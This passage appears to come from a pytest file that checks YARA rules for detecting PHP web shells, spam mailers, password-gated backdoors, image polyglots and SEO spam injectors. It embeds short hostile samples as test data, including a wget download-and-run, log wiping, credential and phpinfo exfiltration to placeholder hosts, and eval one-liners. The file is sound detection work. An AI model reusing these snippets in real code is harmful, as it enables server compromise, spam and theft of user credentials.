    ("SPAMGEAR_SHELLUI_PasswdAndSymlink", php("symlink('a', 'b');"), False),
    (
        "SPAMGEAR_SHELLUI_PasswdAndSymlink",
        b"fs.symlink(target, path) ... see /etc/passwd and symlink(2)",
        False,
    ),
    ("SPAMGEAR_SHELLUI_ScriptDropper", php("$f = fopen('bc.pl', 'w'); fwrite($f, base64_decode($p));"), True),
    (
        "SPAMGEAR_SHELLUI_ScriptDropper",
        php("$f = fopen('log.txt', 'w'); fwrite($f, base64_decode($p));"),
        False,
    ),
    ("SPAMGEAR_SHELLUI_DownloadAndRun", php("exec('cd /tmp; wget http://example.invalid/x; perl x');"), True),
    ("SPAMGEAR_SHELLUI_DownloadAndRun", php("exec('wget --version');"), False),
    (
        "SPAMGEAR_SHELLUI_IrcBot",
        php(
            "$s = fsockopen('irc.example.invalid', 6667);"
            ' fwrite($s, "NICK b\\r\\nUSER a b c d\\r\\nJOIN #c\\r\\nPRIVMSG #c :hi\\r\\n"); exec($c);'
        ),
        True,
    ),
    (
        "SPAMGEAR_SHELLUI_IrcBot",
        php("$s = fsockopen('irc.example.invalid', 6667); fwrite($s, 'PRIVMSG #c :hi');"),
        False,
    ),
    (
        "SPAMGEAR_SHELLUI_LogWiper",
        php(
            "foreach (array('/var/log/lastlog', '/var/log/wtmp', '/var/run/utmp', '/root/.bash_history')"
            " as $l) { unlink($l); }"
        ),
        True,
    ),
    ("SPAMGEAR_SHELLUI_LogWiper", php("$log = '/var/log/messages'; echo filesize($log);"), False),
    (
        "SPAMGEAR_SHELLUI_UploadToClientName",
        php("move_uploaded_file($_FILES['f']['tmp_name'], $_FILES['f']['name']);"),
        True,
    ),
    (
        "SPAMGEAR_SHELLUI_UploadToClientName",
        php("move_uploaded_file($_FILES['f']['tmp_name'], $dir . '/' . md5($_FILES['f']['name']));"),
        False,
    ),
    # --- mailer.yar --------------------------------------------------------------------------
    (
        "SPAMGEAR_MAILER_LoopOverInputList",
        php("$list = explode(\"\\n\", $_POST['emails']); foreach ($list as $to) { mail($to, $s, $m); }"),
        True,
    ),
    (
        "SPAMGEAR_MAILER_LoopOverInputList",
        php(
            "$to = 'admin@example.com'; foreach ($rows as $r) { $s .= $r; } mail($to, $s, $m);"
            " $x = explode(',', $tags);"
        ),
        False,
    ),
    ("SPAMGEAR_MAILER_InputRecipient", php("mail($_POST['to'], 'Hi', 'x');"), True),
    ("SPAMGEAR_MAILER_InputRecipient", php("mail('admin@example.com', 'Contact', $_POST['msg']);"), False),
    (
        "SPAMGEAR_MAILER_MassMailerForm",
        php(
            "$from = $_POST['from']; $rt = $_POST['replyto']; $subject = $_POST['subject'];"
            " $msg = $_POST['message']; $list = $_POST['emaillist'];"
            ' foreach (explode("\\n", $list) as $to) { mail($to, $subject, $msg); }'
        ),
        True,
    ),
    (
        "SPAMGEAR_MAILER_MassMailerForm",
        php(
            "$subject = $_POST['subject']; $msg = $_POST['message']; $from = $_POST['from'];"
            " mail('owner@example.com', $subject, $msg, 'From: ' . $from);"
        ),
        False,
    ),
    ("SPAMGEAR_MAILER_MailerVocabulary", b'<form><textarea name="emaillist"></textarea></form>', True),
    ("SPAMGEAR_MAILER_MailerVocabulary", b'<form><textarea name="comment"></textarea></form>', False),
    (
        "SPAMGEAR_MAILER_SmtpFromInput",
        php(
            '$s = fsockopen($h, 25); fwrite($s, "HELO x\\r\\n");'
            " foreach ($_POST['rcpt'] as $r) { fwrite($s, \"RCPT TO: <$r>\\r\\n\"); }"
        ),
        True,
    ),
    (
        "SPAMGEAR_MAILER_SmtpFromInput",
        php(
            '$s = fsockopen($h, 25); fwrite($s, "HELO x\\r\\n");'
            ' foreach ($rc as $r) { fwrite($s, "RCPT TO: <$r>"); }'
        ),
        False,
    ),
    ("SPAMGEAR_MAILER_MailInLoopSmall", php("foreach ($_POST['to'] as $t) { mail($t, 's', 'm'); }"), True),
    ("SPAMGEAR_MAILER_MailInLoopSmall", php("mail('a@example.com', $s, $m); $x = $_POST['y'];"), False),
    (
        "SPAMGEAR_MAILER_EncodedRelay",
        php("$to = base64_decode($_POST['a']); $s = base64_decode($_POST['b']); mail($to, $s, 'x');"),
        True,
    ),
    (
        "SPAMGEAR_MAILER_EncodedRelay",
        php("$s = base64_decode($_POST['b']); mail('a@example.com', $s, 'x');"),
        False,
    ),
    (
        "SPAMGEAR_MAILER_CredentialExfil",
        php(
            "$m = $_POST['email'] . $_POST['password'] . $_SERVER['REMOTE_ADDR'];"
            " mail('drop@example.invalid', 'l', $m);"
        ),
        True,
    ),
    (
        "SPAMGEAR_MAILER_CredentialExfil",
        php("$m = $_POST['email'] . $_SERVER['REMOTE_ADDR']; mail('drop@example.invalid', 'l', $m);"),
        False,
    ),
    (
        "SPAMGEAR_MAILER_CredentialExfil",
        php(
            "if (password_verify($_POST['password'], $h)) { mail($to, 'login', $_POST['email'] . ' from '"
            " . $_SERVER['REMOTE_ADDR']); }"
        ),
        False,
    ),
    (
        "SPAMGEAR_MAILER_HostBeacon",
        php(
            "mail('x@gmail.com', 's', $_SERVER['DOCUMENT_ROOT'] . $_SERVER['SCRIPT_FILENAME']"
            " . $_SERVER['HTTP_HOST']);"
        ),
        True,
    ),
    ("SPAMGEAR_MAILER_HostBeacon", php("mail('x@gmail.com', 's', $_SERVER['HTTP_HOST']);"), False),
    (
        "SPAMGEAR_MAILER_PhpinfoExfil",
        php("ob_start(); phpinfo(); $i = ob_get_clean(); mail('drop@example.invalid', 'info', $i);"),
        True,
    ),
    ("SPAMGEAR_MAILER_PhpinfoExfil", php("ob_start(); phpinfo(); $i = ob_get_clean(); echo $i;"), False),
    # --- password_gate.yar -------------------------------------------------------------------
    (
        "SPAMGEAR_PASSGATE_HashedInputLiteral",
        php("if (md5($_POST['p']) == '5f4dcc3b5aa765d61d8327deb882cf99') { echo 1; }"),
        True,
    ),
    ("SPAMGEAR_PASSGATE_HashedInputLiteral", php("if (md5($_POST['p']) == $stored) { echo 1; }"), False),
    (
        "SPAMGEAR_PASSGATE_GatedSink",
        php("if (md5($_COOKIE['k']) === '5f4dcc3b5aa765d61d8327deb882cf99') { system($_GET['c']); }"),
        True,
    ),
    (
        "SPAMGEAR_PASSGATE_GatedSink",
        php("if (password_verify($_POST['p'], $hash)) { system('uptime'); }"),
        False,
    ),
    ("SPAMGEAR_PASSGATE_LiteralKeyGate", php("if ($_GET['k'] == 'x') { eval($_POST['c']); }"), True),
    ("SPAMGEAR_PASSGATE_LiteralKeyGate", php("if ($_GET['k'] == 'x') { echo 1; }"), False),
    (
        "SPAMGEAR_PASSGATE_InputEqualsDigest",
        php("if ($_GET['k'] == '5f4dcc3b5aa765d61d8327deb882cf99') {}"),
        True,
    ),
    ("SPAMGEAR_PASSGATE_InputEqualsDigest", php("if ($_GET['k'] == $expected) {}"), False),
    # --- polyglot.yar ------------------------------------------------------------------------
    ("SPAMGEAR_POLYGLOT_ImageWithPhp", b"GIF89a;\n<?php echo 1; ?>", True),
    ("SPAMGEAR_POLYGLOT_ImageWithPhp", b"\xef\xbf\xbd\xef\xbf\xbdJFIF\x00<?php echo 1; ?>", True),
    ("SPAMGEAR_POLYGLOT_ImageWithPhp", b"GIF89a\x01\x00\x01\x00\x80\x00\x00echo", False),
    ("SPAMGEAR_POLYGLOT_HtaccessHandler", b"AddType application/x-httpd-php .jpg\n", True),
    ("SPAMGEAR_POLYGLOT_HtaccessHandler", b"AddType application/x-httpd-php .php\n", False),
    ("SPAMGEAR_POLYGLOT_PhpAfterBinaryHeader", b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR<?php ", True),
    ("SPAMGEAR_POLYGLOT_PhpAfterBinaryHeader", b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00", False),
    # --- families.yar ------------------------------------------------------------------------
    (
        "SPAMGEAR_FAMILY_WSO_FilesMan",
        php("function actionFilesMan() {} function actionConsole() {} function actionSecInfo() {}"),
        True,
    ),
    ("SPAMGEAR_FAMILY_WSO_FilesMan", php("function actionFilesMan() {}"), False),
    (
        "SPAMGEAR_FAMILY_C99R57Panel",
        php(
            "if ($act == 'ls') {} if ($act == 'cmd') {} if ($act == 'upload') {} if ($act == 'phpinfo') {}"
            " system($cmd);"
        ),
        True,
    ),
    ("SPAMGEAR_FAMILY_C99R57Panel", php("if ($act == 'ls') {} if ($act == 'cmd') {} system($cmd);"), False),
    (
        "SPAMGEAR_FAMILY_B374k",
        php(
            "$GLOBALS['module']['a'] = 1; $GLOBALS['resources']['b'] = 2; $GLOBALS['cwd'] = 3;"
            " $GLOBALS['module_to_load'] = 4; $p = $_POST['p'];"
        ),
        True,
    ),
    ("SPAMGEAR_FAMILY_B374k", php("$GLOBALS['module']['a'] = 1; $p = $_POST['p'];"), False),
    ("SPAMGEAR_FAMILY_ChinaChopper", b"<?php @eval($_POST['z']);?>", True),
    ("SPAMGEAR_FAMILY_ChinaChopper", b"<?php @eval($code);?>", False),
    (
        "SPAMGEAR_FAMILY_Weevely",
        php(
            "$a = str_replace('K', '', $x); $b = str_replace('K', '', $y);"
            " $c = str_replace('K', '', $z); $f = create_function('', $a . $b . $c);"
        ),
        True,
    ),
    ("SPAMGEAR_FAMILY_Weevely", php("$a = str_replace('K', '', $x); $f = create_function('', $a);"), False),
    ("SPAMGEAR_FAMILY_P0wny", php("function featureShell($c) {} function featurePwd() {} exec($c);"), True),
    ("SPAMGEAR_FAMILY_P0wny", php("function featureShell($c) {} exec($c);"), False),
    (
        "SPAMGEAR_FAMILY_Alfa",
        php("function alfaCmd() {} function alfaFiles() {} function alfaSql() {} system($c);"),
        True,
    ),
    ("SPAMGEAR_FAMILY_Alfa", php("function alfaCmd() {} function alfaFiles() {} system($c);"), False),
    (
        "SPAMGEAR_FAMILY_ExecFallbackChain",
        php(
            "if (function_exists('system')) { system($c); } elseif (function_exists('exec')) { exec($c); }"
            " elseif (function_exists('passthru')) { passthru($c); }"
        ),
        True,
    ),
    (
        "SPAMGEAR_FAMILY_ExecFallbackChain",
        php("if (function_exists('system')) { system($c); } elseif (function_exists('exec')) { exec($c); }"),
        False,
    ),
    (
        "SPAMGEAR_FAMILY_ExecFallbackSmall",
        php(
            "if (is_callable('system')) { system($c); } elseif (is_callable('exec')) { exec($c); }"
            " elseif (is_callable('passthru')) { passthru($c); }"
        ),
        True,
    ),
    ("SPAMGEAR_FAMILY_ExecFallbackSmall", php("if (is_callable('exec')) { exec($c); }"), False),
    (
        "SPAMGEAR_FAMILY_B374kModule",
        php(
            "$GLOBALS['module']['x']['id'] = 'x'; $GLOBALS['module']['x']['title'] = 'X';"
            " $GLOBALS['module']['x']['js_ontabselected'] = ''; $GLOBALS['module']['x']['content'] = '';"
        ),
        True,
    ),
    (
        "SPAMGEAR_FAMILY_B374kModule",
        php("$GLOBALS['module']['x']['id'] = 'x'; $GLOBALS['module']['x']['title'] = 'X';"),
        False,
    ),
    # --- seo_spam.yar ------------------------------------------------------------------------
    (
        "SPAMGEAR_SEOSPAM_CloakedRemoteContent",
        php(
            "$ua = $_SERVER['HTTP_USER_AGENT']; if (stripos($ua, 'googlebot') !== false) {"
            " echo file_get_contents('http://spam.example.invalid/?h=' . $_SERVER['HTTP_HOST']); }"
        ),
        True,
    ),
    (
        "SPAMGEAR_SEOSPAM_CloakedRemoteContent",
        php("$ua = $_SERVER['HTTP_USER_AGENT']; if (stripos($ua, 'googlebot') !== false) { $bot = true; }"),
        False,
    ),
    (
        "SPAMGEAR_SEOSPAM_IpPhoneHome",
        php("file_get_contents('http://203.0.113.7/x.php?h=' . $_SERVER['HTTP_HOST']);"),
        True,
    ),
    (
        "SPAMGEAR_SEOSPAM_IpPhoneHome",
        php("file_get_contents('http://127.0.0.1/x.php?h=' . $_SERVER['HTTP_HOST']);"),
        False,
    ),
    (
        "SPAMGEAR_SEOSPAM_RemoteTemplateEcho",
        php('$c = file_get_contents($srv . "/index.php?host=" . $h); echo $c;'),
        True,
    ),
    (
        "SPAMGEAR_SEOSPAM_RemoteTemplateEcho",
        php('$c = file_get_contents($srv . "/index.php"); echo $c;'),
        False,
    ),
]

# Whole-file verdicts (summed score vs threshold): typical shells are malicious, ordinary app code is not.
VERDICTS: list[tuple[str, bytes, bool]] = [
    ("one-liner", b"<?php @eval($_POST['pass']);?>", True),
    ("cmd runner", php("$cmd = $_GET['cmd']; echo '<pre>'; passthru($cmd);"), True),
    ("gif polyglot", b"GIF89a\n<?php system($_GET['c']); ?>", True),
    ("htaccess", b"AddHandler application/x-httpd-php .gif\n", True),
    (
        "mass mailer",
        php(
            "foreach (explode(\"\\n\", $_POST['emaillist']) as $to)"
            " { @mail(trim($to), $_POST['subject'], $_POST['message']); }"
        ),
        True,
    ),
    ("packed", php("eval(gzinflate(base64_decode('" + B64_RANDOM[:400] + "')));"), True),
    ("contact form", php("mail('owner@example.com', 'Contact', strip_tags($_POST['message']));"), False),
    (
        "controller",
        php("$id = (int) $_GET['id']; $row = $db->fetch($id); echo htmlspecialchars($row['title']);"),
        False,
    ),
    ("image tool", php("exec('convert ' . escapeshellarg($path) . ' thumb.png', $out, $rc);"), False),
    ("cli helper", php("$out = shell_exec('git rev-parse HEAD'); echo trim($out);"), False),
]


def _sample_tables() -> list[tuple[str, bytes, bool]]:
    """Samples kept beside other features' tests: every `tests/rule_samples_*.py` defines `CASES`."""
    cases: list[tuple[str, bytes, bool]] = []
    for path in sorted(Path(__file__).parent.glob("rule_samples_*.py")):
        cases += importlib.import_module(f"tests.{path.stem}").CASES
    return cases


CASES = CASES + _sample_tables()


def rule_files() -> list[Path]:
    return sorted(SIG_DIR.glob("*.yar"))


def compile_all() -> yara.Rules:
    return yara.compile(
        filepaths={p.stem: str(p) for p in rule_files()}, includes=False, error_on_warning=True
    )


@pytest.fixture(scope="module")
def rules() -> yara.Rules:
    return compile_all()


def declared_rules() -> dict[str, Path]:
    names: dict[str, Path] = {}
    for path in rule_files():
        for name in re.findall(r"^\s*(?:private\s+|global\s+)*rule\s+(\w+)", path.read_text(), re.M):
            names[name] = path
    return names


def verdict_score(matches: list[yara.Match]) -> int:
    """The engine's policy: summed `score` meta (default 100)."""
    return sum(int(m.meta.get("score", 100)) for m in matches)


@pytest.mark.parametrize(
    ("rule", "sample", "should_match"),
    CASES,
    ids=[f"{r}-{'hit' if m else 'miss'}-{i}" for i, (r, _, m) in enumerate(CASES)],
)
def test_rule_sample(rules: yara.Rules, rule: str, sample: bytes, should_match: bool) -> None:
    hit = {m.rule for m in rules.match(data=sample)}
    assert (rule in hit) is should_match, f"{rule} on {sample[:120]!r}: matched {sorted(hit)}"


def test_every_rule_has_a_positive_and_a_negative_sample() -> None:
    declared = declared_rules()
    assert declared, "no rules found under signatures/"
    positives = {r for r, _, m in CASES if m}
    negatives = {r for r, _, m in CASES if not m}
    assert not set(declared) - positives, (
        f"rules without a must-hit sample: {sorted(set(declared) - positives)}"
    )
    assert not set(declared) - negatives, (
        f"rules without a near-miss sample: {sorted(set(declared) - negatives)}"
    )
    assert not (positives | negatives) - set(declared), "samples name rules that do not exist"


def test_rule_names_meta_and_headers() -> None:
    for name in declared_rules():
        assert re.fullmatch(r"SPAMGEAR_[A-Z0-9]+_\w+", name), name
    for path in rule_files():
        text = path.read_text()
        assert text.lstrip().startswith(("/*", "//")), f"{path.name} has no header comment"
    for rule in compile_all():
        meta = dict(rule.meta)
        assert isinstance(meta.get("score"), int) and 0 < meta["score"] <= 100, (rule.identifier, meta)
        assert meta.get("family") and meta.get("description"), rule.identifier


@pytest.mark.parametrize(("name", "sample", "malicious"), VERDICTS, ids=[v[0] for v in VERDICTS])
def test_summed_score_verdict(rules: yara.Rules, name: str, sample: bytes, malicious: bool) -> None:
    matches = rules.match(data=sample)
    score = verdict_score(matches)
    assert (score >= THRESHOLD) is malicious, f"{name}: score {score} from {[m.rule for m in matches]}"


@pytest.mark.skipif(shutil.which("yara") is None, reason="Debian yara CLI not installed")
@pytest.mark.parametrize("path", rule_files(), ids=lambda p: p.name)
def test_yara_cli_compiles_without_warnings(path: Path, tmp_path: Path) -> None:
    target = tmp_path / "empty"
    target.write_bytes(b"")
    proc = subprocess.run(["yara", str(path), str(target)], capture_output=True, text=True, timeout=60)
    assert proc.returncode == 0, proc.stderr
    assert proc.stderr.strip() == "", proc.stderr


def _clean_files() -> Iterator[str]:
    """Every regular file of the clean trees (PHP, JS, CSS, images...), each real file once: uploads
    of any type go through the same rules."""
    seen: set[str] = set()
    for root in CLEAN_ROOTS:
        for dirpath, _dirs, files in os.walk(root, followlinks=True):
            for name in files:
                real = os.path.realpath(os.path.join(dirpath, name))
                if real not in seen and os.path.isfile(real):
                    seen.add(real)
                    yield real


_WORKER_RULES: yara.Rules | None = None


def _scan_chunk(paths: list[str]) -> list[tuple[str, int, list[str]]]:
    global _WORKER_RULES
    if _WORKER_RULES is None:
        _WORKER_RULES = compile_all()
    out = []
    for path in paths:
        matches = _WORKER_RULES.match(path, timeout=30)
        score = verdict_score(matches)
        if score >= THRESHOLD:
            out.append((path, score, [m.rule for m in matches]))
    return out


@pytest.mark.corpus
@pytest.mark.slow
def test_clean_debian_php_trees_have_no_malicious_verdict() -> None:
    present = [r for r in CLEAN_ROOTS[:4] if Path(r).is_dir()]
    if not present:
        pytest.skip(
            "no clean Debian PHP tree installed (apt packages wordpress mediawiki phpmyadmin roundcube-core)"
        )
    files = list(_clean_files())
    assert len(files) > 1000, f"only {len(files)} clean PHP files found"
    chunks = [files[i : i + 400] for i in range(0, len(files), 400)]
    with ProcessPoolExecutor(max_workers=2) as pool:
        false_positives = [fp for chunk in pool.map(_scan_chunk, chunks) for fp in chunk]
    assert false_positives == [], false_positives[:20]
